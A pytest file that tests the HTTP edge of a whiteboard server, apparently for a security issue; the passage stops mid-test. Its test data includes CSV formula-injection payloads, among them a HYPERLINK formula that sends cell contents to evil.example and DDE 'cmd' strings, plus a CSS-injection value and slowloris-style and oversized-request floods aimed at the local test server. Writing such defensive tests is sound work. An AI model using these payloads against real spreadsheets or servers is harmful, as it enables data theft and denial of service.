"""The HTTP edge (issue 16), against real `crossboard serve` processes: who may create
boards, body limits while the body streams, backups rebuilt through the models, exports
safe to open, proxies, slow clients, dates, owners and invisible characters, a full disk.

Each numbered item of the issue has a test here that fails on the hub before the change:
1 `test_creating_a_board_needs_the_admin_token`,
  `test_a_200_mb_body_is_refused_while_it_streams`, `test_an_import_over_the_item_limit_is_refused`;
2 `test_hostile_backups_are_refused_naming_the_first_offending_path`,
  `test_no_import_makes_a_later_route_answer_500`;
3 `test_csv_cells_cannot_start_a_formula_and_read_back_equal`;
4 `test_markdown_escapes_markup_in_user_text`;
5 `test_forwarded_for_is_believed_only_from_the_trusted_proxy`;
6 `test_half_sent_requests_time_out_and_others_are_served`;
7 `test_dates_owners_and_invisible_characters`,
  `test_a_full_disk_answers_503_on_every_route_that_writes`.
"""

from __future__ import annotations

import asyncio
import csv
import http.client
import io
import json
import math
import re
import socket
import stat
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import websockets

from crossboard.board.reducer import apply
from crossboard.board.state import Actor
from crossboard.board.template import strategy_day
from crossboard.protocol.codec import decode_op
from crossboard.report.backup import export

from ..e2e.test_xss import BOARD_TITLE, DEPARTMENTS, PAYLOADS
from ..support import TIMEOUT, Client, HubProcess, note

MiB = 1024 * 1024


# Talking HTTP: one connection per request, from any loopback address.


def call(
    hub: HubProcess | int,
    method: str,
    path: str,
    body: Any = None,
    *,
    token: str | None = None,
    headers: dict[str, str] | None = None,
    source: str = "127.0.0.1",
    raw: bytes | None = None,
) -> tuple[int, dict[str, str], Any]:
    """`method path` with a JSON body (or `raw` bytes), from the address `source`; the
    status, the headers and the body (parsed when it is JSON)."""
    port = hub if isinstance(hub, int) else hub.port
    conn = http.client.HTTPConnection(
        "127.0.0.1", port, timeout=TIMEOUT, source_address=(source, 0)
    )
    sent = {"content-type": "application/json", **(headers or {})}
    if token:
        sent["authorization"] = f"Bearer {token}"
    data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
    try:
        conn.request(method, path, body=data, headers=sent)
        response = conn.getresponse()
        text = response.read()
        got = {k.lower(): v for k, v in response.getheaders()}
    finally:
        conn.close()
    value: Any = text.decode("utf-8", errors="replace")
    if got.get("content-type", "").startswith("application/json"):
        value = json.loads(text)
    return response.status, got, value


def admin(hub: HubProcess) -> str:
    return hub.admin_token


def boards_of(hub: HubProcess) -> list[str]:
    status, _, listing = call(hub, "GET", "/api/boards", token=admin(hub))
    assert status == 200, listing
    return [b["id"] for b in listing["boards"]]


def with_tokens(made: dict[str, Any]) -> dict[str, Any]:
    made["tokens"] = {role: link.split("#t=")[1] for role, link in made["links"].items()}
    return made


def import_backup(hub: HubProcess, backup: Any) -> tuple[int, Any]:
    status, _, answer = call(hub, "POST", "/api/boards", {"backup": backup}, token=admin(hub))
    if status == 201:
        with_tokens(answer)
    return status, answer


@pytest.fixture
def secured(tmp_path: Path) -> Iterator[HubProcess]:
    """A hub as `crossboard serve` runs by default: board creation needs the admin token."""
    hub = HubProcess(tmp_path / "data", open_board_creation=False).start()
    try:
        yield hub
    finally:
        hub.stop()


# A backup with one of everything, made by the real reducer.

FAY = Actor("p-fay", "Fay", None, "facilitator")
ANA = Actor("p-ana", "Ana", "product", "participant")
BOB = Actor("p-bob", "Bob", "sales", "participant")


def day_backup() -> dict[str, Any]:
    """A day's board: notes, a goal tree with a hung note, SWOT, an action, a closed vote,
    a poll with two rounds, a running agenda, a renamed person and a done mark."""
    board = strategy_day("src", "Strategy day")
    steps: list[tuple[Actor, dict[str, Any]]] = [
        (ANA, note("n1", "first note")),
        (FAY, {"kind": "item.add", "id": "g1", "block": "goals",
               "item": {"kind": "goal", "title": "Grow", "parent": None, "order": "V"}}),
        (FAY, {"kind": "item.add", "id": "g2", "block": "goals",
               "item": {"kind": "goal", "title": "Sell more", "parent": "g1", "order": "V"}}),
        (ANA, {"kind": "item.add", "id": "n2", "block": "goals",
               "item": {"kind": "note", "text": "hung", "on": "g2"}}),
        (BOB, {"kind": "item.add", "id": "s1", "block": "swot",
               "item": {"kind": "swot", "quadrant": "S", "text": "Team", "department": "sales"}}),
        (FAY, {"kind": "item.add", "id": "a1", "block": "actions",
               "item": {"kind": "action", "title": "Hire", "owners": ["product", "sales"],
                        "assignee": "Ana", "due": "2027-03-31", "source": "s1"}}),
        (FAY, {"kind": "vote.start", "id": "v1", "block": "swot", "budget": 3, "max_per_item": 2}),
        (ANA, {"kind": "vote.cast", "vote": "v1", "item": "s1"}),
        (FAY, {"kind": "vote.close", "id": "v1"}),
        (FAY, {"kind": "poll.create", "id": "q1", "block": "poll", "question": "How likely?"}),
        (FAY, {"kind": "poll.open", "poll": "q1", "label": "Before"}),
        (ANA, {"kind": "poll.answer", "poll": "q1", "score": 4, "comment": "why"}),
        (FAY, {"kind": "poll.close", "poll": "q1"}),
        (FAY, {"kind": "agenda.set", "items": [{"id": "e1", "title": "SWOT", "minutes": 30}]}),
        (FAY, {"kind": "agenda.start"}),
        (FAY, {"kind": "participant.update", "id": "p-bob", "name": "Boris"}),
        (BOB, {"kind": "done.set"}),
    ]  # fmt: skip
    for seq, (by, op) in enumerate(steps, start=1):
        board, outcome = apply(board, decode_op(op), by, seq, ts=1_700_000_000_000 + seq)
        assert outcome.ok, (op, outcome)
    return export(board, "2026-12-02T10:00:00+00:00")


def hostile(change: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    backup = day_backup()
    change(backup["board"])
    return backup


def _deep_tree(board: dict[str, Any]) -> None:
    parent = None
    for i in range(70):
        board["items"][f"d{i}"] = {
            "id": f"d{i}", "block": "goals", "kind": "goal", "title": f"level {i}",
            "parent": parent, "order": "V", "author": "p-fay", "author_department": None,
        }  # fmt: skip
        parent = f"d{i}"


def setting(where: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """A change that sets one place of the board (`items.n1.text`) to `value`."""

    def change(board: dict[str, Any]) -> None:
        *path, last = where.split(".")
        target: Any = board
        for key in path:
            target = target[int(key)] if isinstance(target, list) else target[key]
        if isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value

    return change


def _filed_elsewhere(board: dict[str, Any]) -> None:
    board["items"]["x1"] = board["items"]["n1"]


def _over_budget(board: dict[str, Any]) -> None:
    board["votes"]["v1"]["dots"]["p-ann"] = {"s1": 2, "s2": 2}


HOSTILE: dict[str, tuple[Callable[[dict[str, Any]], None], str]] = {
    # The list first, then what the board's own rules refuse.
    "a text as a map": (setting("items.n1.text", {"evil": 1}), "board.items.n1"),
    "a board title as an int": (setting("title", 5), "board.title"),
    "a block title as an int": (setting("blocks.goals.title", 7), "board.blocks.goals.title"),
    "a NaN size": (setting("blocks.swot.w", math.nan), "board.blocks.swot.w"),
    "an infinite position": (setting("items.n1.x", math.inf), "board.items.n1"),
    "a negative size": (setting("blocks.swot.h", -5), "board.blocks.swot.h"),
    "private: weird": (setting("blocks.swot.private", "weird"), "board.blocks.swot.private"),
    "locked: yes": (setting("locked", "yes"), "board.locked"),
    "a block locked: yes": (setting("blocks.poll.locked", "yes"), "board.blocks.poll.locked"),
    "a CSS colour": (
        setting("departments.0.color", "red;background:url(//evil)"),
        "board.departments.0.color",
    ),
    "an unknown field": (setting("items.s1.onclick", "x"), "board.items.s1"),
    "an item in no block": (setting("items.n1.block", "nowhere"), "board.items.n1.block"),
    "a goal in a notes block": (setting("items.g1.block", "expectations"), "board.items.g1.block"),
    "an item filed under another id": (_filed_elsewhere, "board.items.x1"),
    "an unknown department": (setting("items.s1.department", "legal"), "board.items.s1.department"),
    "a goal cycle": (setting("items.g1.parent", "g2"), "board.items.g1.parent"),
    "a tree 70 levels deep": (_deep_tree, "board.items.d"),
    "a note hung on a missing node": (setting("items.n2.on", "g9"), "board.items.n2.on"),
    "a date that does not exist": (setting("items.a1.due", "2024-02-30"), "board.items.a1"),
    "owners repeated": (setting("items.a1.owners", ["sales"] * 12), "board.items.a1"),
    "a vote over its budget": (_over_budget, "board.votes.v1"),
    "a score off the scale": (
        setting("polls.q1.rounds.0.answers.p-ana.score", 99),
        "board.polls.q1",
    ),
    "a running timer with no start": (setting("agenda.started_at", None), "board.agenda"),
    "a number past 2**64": (
        setting("agenda.items.0.actual_ms", 2**70),
        "board.agenda.items.0.actual_ms",
    ),
    "a role that does not exist": (setting("roster.p-ana.role", "admin"), "board.roster.p-ana"),
    "a spotlight on no block": (setting("spotlight", "nowhere"), "board.spotlight"),
    "no departments": (setting("departments", []), "board.departments"),
}


def every_route(hub: HubProcess, board: dict[str, Any]) -> dict[str, int]:
    """Each HTTP route of one board, as its facilitator uses them; path -> status."""
    token = board["tokens"]["facilitator"]
    base = f"/api/boards/{board['id']}"
    seen: dict[str, int] = {}

    def go(method: str, path: str, body: Any = None, auth: str | None = token) -> Any:
        status, _, answer = call(hub, method, path, body, token=auth)
        seen[f"{method} {path}"] = status
        return answer

    go("GET", base, auth=board["tokens"]["participant"])
    go("GET", f"{base}/links")
    go("GET", f"{base}/report")
    for fmt in ("html", "md", "csv", "json"):
        go("GET", f"{base}/export?format={fmt}")
    ticket = go("POST", f"{base}/tickets")
    ticket = ticket.get("ticket", "") if isinstance(ticket, dict) else ""
    go("GET", f"{base}/report?ticket={ticket}", auth=None)
    made = go("POST", f"{base}/checkpoints", {"label": "check"})
    go("GET", f"{base}/checkpoints")
    if isinstance(made, dict) and "key" in made:
        key = made["key"]
        go("GET", f"{base}/export?format=md&checkpoint={key}")
        go("POST", f"{base}/checkpoints/{key}/restore")
    return seen


async def join_both(hub: HubProcess, board: dict[str, Any]) -> None:
    """The facilitator and a participant get a welcome."""
    fay = await Client.join(hub, board, role="facilitator", name="Fay", department=None)
    ana = await Client.join(hub, board, name="Ann", department=board["departments"][0]["id"])
    assert fay.welcome["board"]["title"] and ana.welcome["type"] == "welcome"
    await fay.close()
    await ana.close()


# 1. Who may create boards, and how big a body may be.


def test_creating_a_board_needs_the_admin_token(secured: HubProcess, tmp_path: Path) -> None:
    """No token, a wrong one or a join link's: 401 and no board; the admin's: 201. The
    token lives in the data dir, mode 0600; the list of boards is the admin's too."""
    assert call(secured, "POST", "/api/boards", {"title": "Mine"})[0] == 401
    token_file = secured.data_dir / "admin.token"
    assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
    assert call(secured, "POST", "/api/boards", {"title": "Mine"}, token="guess")[0] == 401
    made = secured.new_board(title="By the admin")
    assert call(secured, "POST", "/api/boards", {}, token=made["tokens"]["facilitator"])[0] == 401
    status, _, answer = call(secured, "POST", "/api/boards", {"backup": day_backup()})
    assert status == 401 and answer["code"] == "unauthorized"
    assert call(secured, "GET", "/api/boards")[0] == 401
    assert boards_of(secured) == [made["id"]]
    status, _, info = call(secured, "GET", "/api/start", token=admin(secured))
    assert status == 200 and info["admin"] is True and info["open_board_creation"] is False

    kiosk = HubProcess(tmp_path / "kiosk", open_board_creation=True).start()
    try:
        status, _, answer = call(kiosk, "POST", "/api/boards", {"title": "Anyone's"})
        assert status == 201 and answer["title"] == "Anyone's"
        assert call(kiosk, "GET", "/api/boards")[0] == 401  # the list stays the admin's
    finally:
        kiosk.stop()

    given = HubProcess(tmp_path / "given", open_board_creation=False)
    given.env["CROSSBOARD_ADMIN_TOKEN"] = "a-token-from-the-environment"
    given.start()
    try:
        assert (
            call(given, "POST", "/api/boards", {}, token="a-token-from-the-environment")[0] == 201
        )
        assert not (given.data_dir / "admin.token").exists()
    finally:
        given.stop()


def peak_rss(pid: int) -> int:
    """The process's peak resident memory (VmHWM), in bytes."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


async def stream_body(port: int, head: bytes, chunks: Iterator[bytes]) -> tuple[int, int]:
    """Send `head`, then the chunks while the hub reads them; the hub's status and how many
    body bytes went out before it answered (or stopped reading)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    answer = asyncio.ensure_future(reader.readuntil(b"\r\n\r\n"))
    sent = 0
    try:
        writer.write(head)
        for chunk in chunks:
            if answer.done():
                break
            writer.write(chunk)
            try:
                await asyncio.wait_for(writer.drain(), TIMEOUT)
            except (ConnectionError, TimeoutError):
                break
            sent += len(chunk)
        status_line = await asyncio.wait_for(answer, TIMEOUT)
        return int(status_line.split()[1]), sent
    finally:
        answer.cancel()
        writer.close()


def megabytes(total: int, *, chunked: bool) -> Iterator[bytes]:
    piece = b"x" * MiB
    for _ in range(total // MiB):
        yield b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece
    if chunked:
        yield b"0\r\n\r\n"


async def test_a_200_mb_body_is_refused_while_it_streams(secured: HubProcess) -> None:
    """Declared or chunked, a 200 MB body gets 413 long before it is all sent, and the hub's
    peak memory barely moves (it held at most the limit, 8 MiB)."""
    assert secured.proc is not None
    before = peak_rss(secured.proc.pid)
    auth = f"authorization: Bearer {admin(secured)}\r\n".encode()
    total = 200 * MiB
    declared = (
        b"POST /api/boards HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        + auth + b"content-length: %d\r\n\r\n" % total
    )  # fmt: skip
    status, sent = await stream_body(secured.port, declared, megabytes(total, chunked=False))
    assert status == 413 and sent < total // 2
    chunked = (
        b"POST /api/boards HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        + auth + b"transfer-encoding: chunked\r\n\r\n"
    )  # fmt: skip
    status, sent = await stream_body(secured.port, chunked, megabytes(total, chunked=True))
    assert status == 413 and sent < total // 2
    grown = peak_rss(secured.proc.pid) - before
    print(f"peak RSS before {before / MiB:.1f} MiB, grew by {grown / MiB:.1f} MiB")
    assert grown < 32 * MiB, f"the hub's peak memory grew by {grown / MiB:.0f} MiB"
    # Other routes take small bodies only; the hub still answers.
    big = {"label": "x" * (100 * 1024)}
    board = secured.new_board()
    path = f"/api/boards/{board['id']}/checkpoints"
    status, _, answer = call(secured, "POST", path, big, token=board["tokens"]["facilitator"])
    assert status == 413 and answer["code"] == "body_too_large"
    assert call(secured, "GET", "/healthz")[0] == 200
    assert boards_of(secured) == [board["id"]]


def test_an_import_over_the_item_limit_is_refused(secured: HubProcess) -> None:
    backup = day_backup()
    items = backup["board"]["items"]
    for i in range(20_001 - len(items)):
        items[f"x{i}"] = {**items["n1"], "id": f"x{i}", "text": ""}
    status, answer = import_backup(secured, backup)
    assert status == 400 and answer["code"] == "invalid_backup"
    assert answer["path"] == "board.items" and "20000" in answer["message"]
    assert boards_of(secured) == []


# 2. Backups rebuilt through the models.


def test_hostile_backups_are_refused_naming_the_first_offending_path(secured: HubProcess) -> None:
    """Every case of HOSTILE: 400 `invalid_backup` whose path names the offending place,
    and no board is made. The untouched backup imports."""
    wrong = {}
    for name, (change, path) in HOSTILE.items():
        status, answer = import_backup(secured, hostile(change))
        if status != 400 or answer.get("code") != "invalid_backup":
            wrong[name] = (status, answer)
        elif not answer.get("path", "").startswith(path):
            wrong[name] = (status, answer.get("path"), answer["message"])
    assert wrong == {}
    assert boards_of(secured) == []
    assert import_backup(secured, day_backup())[0] == 201


async def test_no_import_makes_a_later_route_answer_500(secured: HubProcess) -> None:
    """Every hostile backup of item 2, plus ones that import after cleaning: whichever is
    stored, each route of that board answers, never 500, and both roles can join."""
    cleaned = {
        "control characters": lambda b: b["items"]["n1"].update(text="a\x00b\x1b[31mc\x7f"),
        "a bidi override": lambda b: b.update(title="Q3 \u202egnp.exe"),
        "a lone surrogate": lambda b: b["items"]["s1"].update(text="half \ud800 a pair"),
        "a name with a line break": lambda b: b["departments"][0].update(name="Pro\nduct"),
    }
    cases = {name: change for name, (change, _) in HOSTILE.items()} | cleaned
    answers: dict[str, Any] = {}
    for name, change in cases.items():
        status, made = await asyncio.to_thread(import_backup, secured, hostile(change))
        if status != 201:
            answers[name] = status
            continue
        answers[name] = await asyncio.to_thread(every_route, secured, made)
        await join_both(secured, made)
    failing = {
        name: seen
        for name, seen in answers.items()
        if (isinstance(seen, int) and seen != 400)
        or (isinstance(seen, dict) and any(s >= 500 for s in seen.values()))
    }
    assert failing == {}
    assert all(isinstance(answers[name], dict) for name in cleaned), answers


# 3 and 4. Exports safe to open.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "plain text",
]


async def test_csv_cells_cannot_start_a_formula_and_read_back_equal(secured: HubProcess) -> None:
    """Action titles, assignees and owner departments beginning with = + - @ tab or CR,
    and the e2e XSS payloads: no cell of the CSV starts a formula, and each cell without
    its one leading `'` is the text the board holds."""
    board = secured.new_board(title="Formulas", departments=["=cmd|' /C calc'!A0", "Sales"])
    depts = [d["id"] for d in board["departments"]]
    fay = await Client.join(secured, board, role="facilitator", name="Fay", department=None)
    texts = FORMULAS + PAYLOADS
    for i, text in enumerate(texts):
        op = {"kind": "item.add", "id": f"a{i}", "block": "actions",
              "item": {"kind": "action", "title": text, "owners": [depts[i % 2]],
                       "assignee": texts[-1 - i], "order": f"k{i:03d}x"}}  # fmt: skip
        cid = await fay.send_op(op)
        frame = await fay.recv_until(lambda f, c=cid: f.get("cid") == c)
        assert frame["type"] == "applied", frame
    base = f"/api/boards/{board['id']}/export?format="
    token = board["tokens"]["facilitator"]
    status, _, text = await asyncio.to_thread(call, secured, "GET", base + "csv", token=token)
    assert status == 200 and text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text[1:])))
    _, _, held = await asyncio.to_thread(call, secured, "GET", base + "json", token=token)
    names = {d["id"]: d["name"] for d in held["board"]["departments"]}
    actions = sorted(
        (it for it in held["board"]["items"].values() if it["kind"] == "action"),
        key=lambda it: it["order"],
    )
    assert len(table) == len(actions) + 1
    for row, action in zip(table[1:], actions, strict=True):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        back = [cell[1:] if cell.startswith("'") else cell for cell in row]
        owners = "; ".join(names[o] for o in action["owners"])
        assert [back[0], back[2], back[3]] == [action["title"], owners, action["assignee"]]


UNESCAPED = re.compile(r"(?<!\\)[<&\[\]`]")
"""Markup characters a Markdown renderer acts on, not escaped. The report's own Markdown uses
none of them, so any one found came from user text."""


async def test_markdown_escapes_markup_in_user_text(secured: HubProcess) -> None:
    """The e2e XSS payloads as the board title, department names, people's names, goal
    titles, hung notes, SWOT items, actions and a poll question: in the Markdown, every
    markup character of them is escaped, and unescaping gives back the text."""
    board = secured.new_board(title=BOARD_TITLE, departments=DEPARTMENTS)
    depts = [d["id"] for d in board["departments"]]
    fay = await Client.join(secured, board, role="facilitator", name=PAYLOADS[0], department=None)
    people = [
        await Client.join(secured, board, name=name, department=depts[i % len(depts)])
        for i, name in enumerate(PAYLOADS[1:4])
    ]
    ops: list[dict[str, Any]] = [
        {"kind": "poll.create", "id": "q1", "block": "poll", "question": PAYLOADS[4]},
    ]
    for i, text in enumerate(PAYLOADS):
        ops += [
            {"kind": "item.add", "id": f"g{i}", "block": "goals",
             "item": {"kind": "goal", "title": text, "parent": None, "order": f"k{i:03d}x"}},
            {"kind": "item.add", "id": f"h{i}", "block": "goals",
             "item": {"kind": "note", "text": text, "on": f"g{i}"}},
            {"kind": "item.add", "id": f"s{i}", "block": "swot",
             "item": {"kind": "swot", "quadrant": "SWOT"[i % 4], "text": text,
                      "order": f"k{i:03d}x"}},
            {"kind": "item.add", "id": f"a{i}", "block": "actions",
             "item": {"kind": "action", "title": text, "owners": [depts[i % len(depts)]],
                      "assignee": text, "order": f"k{i:03d}x"}},
        ]  # fmt: skip
    for op in ops:
        cid = await fay.send_op(op)
        frame = await fay.recv_until(lambda f, c=cid: f.get("cid") == c)
        assert frame["type"] == "applied", frame
    for person in people:  # on the roster: the report lists them by department
        cid = await person.send_op(note(f"n-{person.welcome['you']['id']}", "present"))
        await person.recv_until(lambda f, c=cid: f.get("cid") == c)
    base = f"/api/boards/{board['id']}/export?format="
    token = board["tokens"]["facilitator"]
    status, _, md = await asyncio.to_thread(call, secured, "GET", base + "md", token=token)
    assert status == 200
    assert UNESCAPED.findall(md) == []
    _, _, held = await asyncio.to_thread(call, secured, "GET", base + "json", token=token)
    state = held["board"]
    texts = [state["title"], *(d["name"] for d in state["departments"])]
    texts += [p["name"] for p in state["roster"].values()]
    texts += [it.get("text") or it.get("title") or "" for it in state["items"].values()]
    texts += [it["assignee"] for it in state["items"].values() if it["kind"] == "action"]
    texts += [q["question"] for q in state["polls"].values()]
    plain = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", md)
    missing = [t for t in texts if t != "present" and " ".join(t.splitlines()) not in plain]
    assert missing == []
    assert len(texts) > 4 * len(PAYLOADS)


# 5. Proxies.


class Proxy:
    """A tiny reverse proxy on 127.0.0.1 that reaches the hub from 127.0.0.2 and appends
    the client's address to `X-Forwarded-For`, as nginx's `$proxy_add_x_forwarded_for`;
    then it pipes bytes both ways (a websocket too)."""

    def __init__(self, hub_port: int) -> None:
        self.hub_port = hub_port
        self.server: asyncio.Server | None = None
        self.port = 0

    async def start(self) -> Proxy:
        self.server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        client = writer.get_extra_info("peername")[0]
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            forwarded = [
                ln.split(":", 1)[1].strip()
                for ln in lines
                if ln.lower().startswith("x-forwarded-for:")
            ]
            kept = [ln for ln in lines[:-2] if not ln.lower().startswith("x-forwarded-for:")]
            chain = ", ".join([*forwarded, client])
            head = ("\r\n".join([*kept, f"X-Forwarded-For: {chain}"]) + "\r\n\r\n").encode(
                "latin-1"
            )
            up_reader, up_writer = await asyncio.open_connection(
                "127.0.0.1", self.hub_port, local_addr=("127.0.0.2", 0)
            )
        except (OSError, asyncio.IncompleteReadError):
            writer.close()
            return
        up_writer.write(head)

        async def pipe(src: asyncio.StreamReader, dst: asyncio.StreamWriter) -> None:
            try:
                while data := await src.read(65536):
                    dst.write(data)
                    await dst.drain()
            except OSError:
                pass
            finally:
                dst.close()

        await asyncio.gather(pipe(reader, up_writer), pipe(up_reader, writer))

    async def stop(self) -> None:
        if self.server is not None:
            self.server.close()


async def test_forwarded_for_is_believed_only_from_the_trusted_proxy(tmp_path: Path) -> None:
    """By default nobody's X-Forwarded-For is believed: a client at 127.0.0.1 past its
    hourly budget stays refused whatever it claims. With `--forwarded-allow-ips 127.0.0.2`
    the per-address limits (new boards, connections) count the address the proxy saw."""
    env = {"CROSSBOARD_BOARDS_PER_HOUR_PER_IP": "3", "CROSSBOARD_MAX_CONNECTIONS_PER_IP": "1"}
    plain = HubProcess(tmp_path / "plain", open_board_creation=False, env=dict(env)).start()
    try:
        spoof = {"x-forwarded-for": "10.0.0.1"}

        def create_spoofed() -> int:
            return call(plain, "POST", "/api/boards", {}, token=admin(plain), headers=spoof)[0]

        statuses = [await asyncio.to_thread(create_spoofed) for _ in range(5)]
        assert statuses == [201, 201, 201, 429, 429]
        for claim in ("10.0.0.2", "10.0.0.3, 10.0.0.4", "127.0.0.2"):
            answer = await asyncio.to_thread(
                call, plain, "POST", "/api/boards", {}, token=admin(plain),
                headers={"x-forwarded-for": claim},
            )  # fmt: skip
            assert answer[0] == 429, claim
    finally:
        plain.stop()

    hub = HubProcess(
        tmp_path / "proxied", open_board_creation=False, env=dict(env),
        extra=["--forwarded-allow-ips", "127.0.0.2"],
    ).start()  # fmt: skip
    proxy = await Proxy(hub.port).start()
    try:
        token = admin(hub)

        def create(source: str, claim: str | None = None) -> int:
            headers = {"x-forwarded-for": claim} if claim else {}
            return call(
                proxy.port, "POST", "/api/boards", {}, token=token, source=source, headers=headers
            )[0]

        a = [await asyncio.to_thread(create, "127.0.0.3") for _ in range(4)]
        assert a == [201, 201, 201, 429]
        assert await asyncio.to_thread(create, "127.0.0.3", "10.9.9.9") == 429  # spoof, via proxy
        assert await asyncio.to_thread(create, "127.0.0.4") == 201  # another client, same proxy
        # 127.0.0.1 is not the proxy: its claim is ignored, its own budget counts.
        claim = {"x-forwarded-for": "127.0.0.3"}
        direct = await asyncio.to_thread(
            call, hub, "POST", "/api/boards", {}, token=token, headers=claim
        )
        assert direct[0] == 201

        board = hub.new_board()
        url = f"ws://127.0.0.1:{proxy.port}/ws/{board['id']}"
        first = await websockets.connect(url, local_addr=("127.0.0.3", 0))
        try:
            second = await websockets.connect(url, local_addr=("127.0.0.3", 0))
            with pytest.raises(websockets.ConnectionClosed) as closed:
                await asyncio.wait_for(second.recv(), TIMEOUT)
            assert closed.value.rcvd is not None and closed.value.rcvd.code == 4013
            other = await websockets.connect(url, local_addr=("127.0.0.4", 0))
            await other.close()
        finally:
            await first.close()
    finally:
        await proxy.stop()
        hub.stop()


# 6. Slow clients.


def scrape(hub: HubProcess, name: str, source: str = "127.0.0.2") -> float | None:
    """One figure of `/metrics` (None when the hub has no such metric)."""
    status, _, text = call(hub, "GET", "/metrics", source=source)
    assert status == 200
    found = re.search(rf"^crossboard_{name} (\S+)$", text, re.M)
    return None if found is None else float(found.group(1))


def test_half_sent_requests_time_out_and_others_are_served(tmp_path: Path) -> None:
    """200 half-sent requests from one address: the hub keeps answering everyone else (and
    that address's next whole request) at once, keeps at most 32 of them after a second,
    and closes every one of them (408) once their header deadline passes."""
    header_timeout = 3.0
    env = {"CROSSBOARD_HEADER_TIMEOUT": str(header_timeout)}
    hub = HubProcess(tmp_path / "data", env=env).start()
    slow: list[socket.socket] = []
    try:
        started = time.monotonic()
        for _ in range(200):
            s = socket.create_connection(("127.0.0.1", hub.port), timeout=TIMEOUT)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            slow.append(s)
        for source in ("127.0.0.2", "127.0.0.1", "127.0.0.3"):
            t0 = time.monotonic()
            assert call(hub, "GET", "/healthz", source=source)[0] == 200
            assert time.monotonic() - t0 < TIMEOUT
        deadline = time.monotonic() + TIMEOUT
        kept = scrape(hub, "http_handshakes")
        while kept is not None and kept > 32 and time.monotonic() < deadline:
            time.sleep(0.05)
            kept = scrape(hub, "http_handshakes")
        closed = 0
        deadline = started + header_timeout + TIMEOUT
        for s in slow:
            s.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                answer = s.recv(4096)
            except TimeoutError:
                continue
            except OSError:
                answer = b""
            assert answer in (b"",) or answer.startswith(b"HTTP/1.1 408"), answer
            closed += 1
        assert closed == len(slow), f"{len(slow) - closed} half-sent requests are still open"
        assert kept is not None and kept <= 32, "more than 32 slow requests kept after a second"
        assert (scrape(hub, "http_handshakes_evicted_total") or 0) >= 200 - 32
        assert scrape(hub, "http_handshakes") == 0
        assert call(hub, "GET", "/healthz")[0] == 200
    finally:
        for s in slow:
            s.close()
        hub.stop()


def test_headers_over_64_kib_are_answered_431(secured: HubProcess) -> None:
    """uvicorn keeps every header it parses: a request may not send megabytes of them."""
    with socket.create_connection(("127.0.0.1", secured.port), timeout=TIMEOUT) as s:
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        try:
            for _ in range(200):  # 2 MB, never ending the headers
                s.sendall(b"X-Pad: " + b"y" * 10_000 + b"\r\n")
        except OSError:
            pass  # the hub closed the connection: the answer is already waiting
        try:
            answer = s.recv(4096)
        except ConnectionResetError:  # the reset for the unread rest overtook the answer
            answer = b""
    assert answer.startswith(b"HTTP/1.1 431") or answer == b"", answer
    assert scrape(secured, "http_headers_too_large_total") == 1
    assert call(secured, "GET", "/healthz")[0] == 200


def test_a_stalled_body_is_answered_408(tmp_path: Path) -> None:
    hub = HubProcess(tmp_path / "data", env={"CROSSBOARD_BODY_TIMEOUT": "1"}).start()
    try:
        with socket.create_connection(("127.0.0.1", hub.port), timeout=TIMEOUT) as s:
            auth = f"Authorization: Bearer {hub.admin_token}\r\n".encode()
            s.sendall(
                b"POST /api/boards HTTP/1.1\r\nHost: x\r\n" + auth
                + b"Content-Length: 100\r\n\r\n{"
            )  # fmt: skip
            s.settimeout(1 + TIMEOUT)
            assert s.recv(4096).startswith(b"HTTP/1.1 408")
        assert call(hub, "GET", "/healthz")[0] == 200
    finally:
        hub.stop()


# 7. Dates, owners, invisible characters, a full disk.


def test_the_backup_models_cover_every_part_of_a_board() -> None:
    """A part added to `Board` needs its model in report/backup.py, or every import of a
    board that has it is refused (`extra` fields are)."""
    from crossboard.report.backup import BoardState

    parts = set(strategy_day("b", "Day").to_wire()) - {"id", "seq"}
    assert set(BoardState.model_fields) == parts


def test_text_rules() -> None:
    """protocol/text.py, which the op models, board creation and imports share."""
    from crossboard.protocol.text import clean_line, clean_text, real_date

    assert clean_text("a\x00b\r\nc\td\u202eе\u2066f\x85") == "ab\nc\tdеf"
    assert clean_line("Pro\nduct\t\u202d") == "Pro duct "
    assert clean_text("emoji 👩‍💻 and a mark \u200f stay") == "emoji 👩‍💻 and a mark \u200f stay"
    assert real_date("2024-02-29") == "2024-02-29"
    for bad in ("2023-02-29", "2024-02-30", "2024-13-01", "2024-00-10", "0000-01-01", "2024-1-1"):
        with pytest.raises(ValueError):
            real_date(bad)


def test_dates_owners_and_invisible_characters(secured: HubProcess) -> None:
    """A board title or department with NUL and a bidi override is stored without them; a
    backup with 2024-02-30 or repeated owners is refused naming the field; control and
    bidi-override characters in a backup's texts are stripped."""
    status, _, made = call(
        secured, "POST", "/api/boards",
        {"title": "Q3\x00 \u202eplan", "departments": ["Sa\u202eles\x07", "Ops"]},
        token=admin(secured),
    )  # fmt: skip
    assert status == 201
    assert made["title"] == "Q3 plan" and made["departments"][0]["name"] == "Sales"
    for change, path in (
